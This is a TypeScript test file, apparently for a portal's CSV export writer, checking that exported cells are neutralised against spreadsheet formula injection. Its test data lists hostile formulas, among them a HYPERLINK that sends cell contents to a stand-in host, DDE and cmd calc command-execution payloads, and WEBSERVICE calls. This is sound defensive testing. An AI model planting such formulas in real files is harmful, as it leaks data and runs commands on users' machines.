/** [T22] No file that the portal hands out makes a spreadsheet reckon with what somebody wrote: over all of its exports. */
import { csvOf } from '@portal/contract'
import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { expect, test } from 'vitest'
import { readSources } from './source-tree.ts'

/** How a formula begins, also for those who write full-width, and behind what is not seen. */
const beginnings = [
  '=',
  '+',
  '-',
  '@',
  '＝',
  '＋',
  '－',
  '＠',
  '\t=',
  '\r=',
  '\n=',
  ' =',
  '\u00a0=',
  '\u3000=',
  '\ufeff=',
  '\t',
  '\r',
  '\n',
]
const formulas = [
  ['1+1', 'HYPERLINK("https://evil.example?"&A1,"x")', "cmd|' /C calc'!A0", 'SUM(1)*cmd', 'IMPORTXML("http://x")'],
  ['DDE("cmd";"/C calc";"x")', 'WEBSERVICE("http://x")', '1,2', '"quoted"', "'", '\r\n=2+2', ''],
].flat()
const hostile = beginnings.flatMap((begin) => formulas.map((formula) => `${begin}${formula}`))

function cellsOf(text: string): string[][] {
  expect(text.startsWith('\uFEFF')).toBe(true)
  return parse(text, { bom: true, record_delimiter: '\r\n', relax_column_count: false }) as string[][]
}

const isFormula = (cell: string): boolean => /^[\s\uFEFF]*[=+\-@＝＋－＠]/.test(cell) || /^[\t\r\n]/.test(cell)

test('[T22] a formula is text, in whatever column, and says what it said', () => {
  expect(hostile.length).toBeGreaterThan(200)
  const rows = hostile.map((text, n) => ['before', text, `${n}`, text])
  const cells = cellsOf(csvOf(rows))
  expect(cells).toHaveLength(rows.length)
  expect(cells.flat().filter(isFormula)).toEqual([])
  expect(cells.map((row) => row[1]!.replace(/^'/, ''))).toEqual(hostile.map((text) => text.replace(/^'/, '')))
  // control: as it is written it would be one
  expect(hostile.filter(isFormula)).toHaveLength(hostile.length)
})

test('[T22] any text comes back as itself, or as itself behind an apostrophe; numbers stay numbers', () => {
  fc.assert(
    fc.property(fc.array(fc.string({ unit: 'binary' }), { minLength: 1, maxLength: 4 }), (row) => {
      const [cells] = cellsOf(csvOf([['x', ...row]]))
      for (const [n, text] of row.entries()) {
        expect([text, `'${text}`]).toContain(cells![n + 1])
        expect(isFormula(cells![n + 1]!)).toBe(false)
      }
    }),
    { numRuns: 200, seed: 22 },
  )
  expect(csvOf([[-5, 1.5, null]])).toBe('\uFEFF-5,1.5,\r\n')
})

test('[T22] every part that hands out such a file makes it by the one writer', async () => {
  const sources = [...(await readSources())].filter(([path]) => !/\.test\.tsx?$/.test(path))
  const folderOf = (path: string) => /^(?:features|packages|apps)\/[^/]+/.exec(path)?.[0] ?? ''
  const foldersWith = (what: RegExp) =>
    new Set(sources.flatMap(([path, text]) => (folderOf(path) && what.test(text) ? [folderOf(path)] : [])))
  const making = [...foldersWith(/['"]text\/csv/)]
  expect(making.length).toBeGreaterThanOrEqual(2)
  const byTheWriter = foldersWith(/\bcsv(Of|Cell)\b/)
  expect(making.filter((folder) => !byTheWriter.has(folder))).toEqual([])
})
